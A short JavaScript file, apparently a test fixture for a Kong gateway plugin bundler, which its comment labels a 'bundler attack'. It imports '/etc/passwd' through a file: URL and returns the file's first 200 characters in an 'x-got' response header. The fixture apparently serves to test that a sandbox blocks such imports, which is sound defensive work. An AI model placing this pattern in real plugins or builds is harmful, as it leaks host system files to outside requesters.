// Bundler attack: a file: URL to a host file.
import stolen from 'file:///etc/passwd';
export class Plugin {
  async access(kong) {
    await kong.response.setHeader('x-got', JSON.stringify(String(stolen).slice(0, 200)));
  }
}
export const Version = '1.0.0';
